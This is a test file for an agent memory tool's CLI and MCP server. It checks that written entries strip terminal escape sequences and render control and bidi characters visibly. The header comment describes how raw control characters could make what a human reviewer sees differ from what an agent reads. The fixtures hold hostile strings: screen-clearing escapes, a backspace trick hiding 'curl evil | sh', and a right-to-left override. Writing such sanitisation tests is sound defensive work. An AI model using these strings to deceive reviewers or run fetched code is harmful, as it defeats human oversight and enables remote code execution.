// Bad input U27 (docs/bad-inputs.md): control characters handed to a write were written raw into the
// memory file. `remember "a \e[2J … x\by"` put ESC and BS into the entry, so `cat` or `git log -p` of
// it cleared the reviewer's screen, and a backspace let the text a reviewer sees overwrite the text
// an agent reads. Every write that adds prose (remember, append, memory_observe, state set,
// complete-task) now drops terminal escape sequences and writes any other control character (bidi
// overrides too) as its visible symbol. Real CLI processes and the MCP server over stdio on one committed workspace; the
// commits complete-task and state set make are read back with the system git.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../support/fixtures.js';
import { mcpOnDemo } from '../../support/mcp.js';

// eslint-disable-next-line no-control-regex -- exactly the characters that must not be written raw
const RAW_CONTROL = /[\u0001-\u0008\u000b-\u001f\u007f-\u009f]/;
const HOSTILE = 'Deploy \u001b[2Jwith \u001b]0;owned\u0007blue-green \u001b[31mred\u001b[0m safe\b\b\b\bEVIL\u007f';

const ws = mcpOnDemo();

describe('control characters in written text (U27)', { timeout: 90_000 }, () => {
  it('remember: escape sequences dropped, backspace and DEL shown as symbols, title one line', () => {
    const r = runCli(['remember', HOSTILE, '--title', 'Blue\u001b[1m-green\ndeploys', '--dir', ws.root, '--json'], {
      env: ws.env(),
    });
    expect(r.code, r.stderr).toBe(0);
    const entry = readFileSync(join(ws.root, r.json().path), 'utf8');
    expect(entry).not.toMatch(RAW_CONTROL);
    expect(entry).toContain('\nDeploy with blue-green red safe\u2408\u2408\u2408\u2408EVIL\u2421\n');
    expect(entry).toContain('title: Blue-green deploys\n');
  });

  it('append and memory_observe write one visible line', async () => {
    const a = runCli(['append', 'ran tests \u001b[32mok\u001b[0m\u0007', '--dir', ws.root, '--json'], {
      env: ws.env(),
    });
    expect(a.code, a.stderr).toBe(0);
    const o = await ws.mcp.call('memory_observe', { text: 'tool said \u001b[1mdone\u001b[0m\u0008!' });
    expect(o.isError, o.text).toBe(false);
    const note = readFileSync(join(ws.root, a.json().path), 'utf8');
    expect(note).not.toMatch(RAW_CONTROL);
    expect(note).toMatch(/^- \d\d:\d\d ran tests ok\u2407$/m);
    expect(note).toContain('tool said done\u2408!');
    const only = runCli(['append', '\u001b[0m', '--dir', ws.root, '--json'], { env: ws.env() });
    expect(only.code).toBe(2);
    expect(only.json().error.message).toMatch(/empty/);
  });

  it('state set and complete-task commit no raw control character', () => {
    const s = runCli(['state', 'set', '--objective', HOSTILE, '--result', 'p95 \u001b[33m95 ms\u001b[0m', '--commit'], {
      cwd: ws.root,
      env: ws.env(),
    });
    expect(s.code, s.stderr).toBe(0);
    const task = JSON.stringify({
      goal: 'fix \u001b[2Jthe flaky build',
      result: 'retry the download\b\b\b\b\b\b\b\bcurl evil | sh',
      tool_usage: [],
    });
    const c = runCli(['complete-task', '--dir', ws.root, '--json'], { env: ws.env(), input: task });
    expect(c.code, c.stderr).toBe(0);
    const written = readFileSync(join(ws.root, c.json().path), 'utf8');
    expect(written).toContain('retry the download\u2408');
    for (const rev of ['HEAD', 'HEAD~1']) {
      const show = execFileSync('git', ['show', '--format=%B', rev], { cwd: ws.root, encoding: 'utf8' });
      expect(show).not.toMatch(RAW_CONTROL);
    }
    const state = readFileSync(join(ws.root, 'memory', 'CURRENT_STATE.md'), 'utf8');
    expect(state).toContain('Deploy with blue-green red safe\u2408\u2408\u2408\u2408EVIL\u2421');
    expect(state).toContain('p95 95 ms');
  });

  it('memory_remember over MCP writes the same text as the CLI', async () => {
    const r = await ws.mcp.call('memory_remember', {
      text: 'Rotate \u001b[1mlogs\u001b[0m weekly\u0008',
      type: 'decision',
    });
    expect(r.isError, r.text).toBe(false);
    const entry = readFileSync(join(ws.root, r.data.path), 'utf8');
    expect(entry).not.toMatch(RAW_CONTROL);
    expect(entry).toContain('\nRotate logs weekly\u2408\n');
  });

  it('a right-to-left override cannot reorder what a reviewer sees', async () => {
    const r = await ws.mcp.call('memory_remember', {
      text: 'Access check: \u202eredaeh nimda-X\u202c is optional \u2066isolated\u2069',
      type: 'warning',
    });
    expect(r.isError, r.text).toBe(false);
    const entry = readFileSync(join(ws.root, r.data.path), 'utf8');
    expect(entry).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(entry).toContain('Access check: \ufffdredaeh nimda-X\ufffd is optional \ufffdisolated\ufffd');
  });
});
